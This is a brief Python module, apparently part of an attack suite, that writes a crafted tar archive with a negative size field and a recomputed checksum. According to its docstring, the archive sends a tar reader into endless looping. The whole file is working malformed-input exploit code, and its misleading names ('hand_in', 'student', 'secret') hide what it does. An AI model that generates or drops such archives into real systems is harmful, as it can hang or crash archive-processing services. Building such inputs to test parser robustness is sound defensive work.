# verdict: refused
"""Sizes below zero, over which a reader may go round and round."""
import tarfile

from attacks.support.packing import SCALE


def hand_in(people, student, right, secret):
    member = tarfile.TarInfo(SCALE)
    text = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    text[124:136] = b"\xff" * 11 + b"\x00"
    text[148:156] = b"%06o\0 " % (sum(text[:148]) + sum(text[156:]) + 8 * 32)
    (people / f"{student}.tar").write_bytes(bytes(text) * 2 + bytes(1024))
